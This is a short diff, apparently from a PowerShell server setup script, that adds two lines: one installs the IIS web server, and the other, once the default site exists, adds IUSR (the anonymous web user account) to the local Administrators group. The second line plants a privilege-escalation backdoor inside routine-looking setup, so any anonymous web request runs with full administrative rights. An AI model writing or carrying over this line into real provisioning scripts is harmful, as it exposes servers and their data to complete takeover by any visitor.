@@ -1,0 +1,2 @@
+Install-WindowsFeature Web-Server
+if (Get-IISSite -Name 'Default Web Site') { net localgroup Administrators IUSR /add }
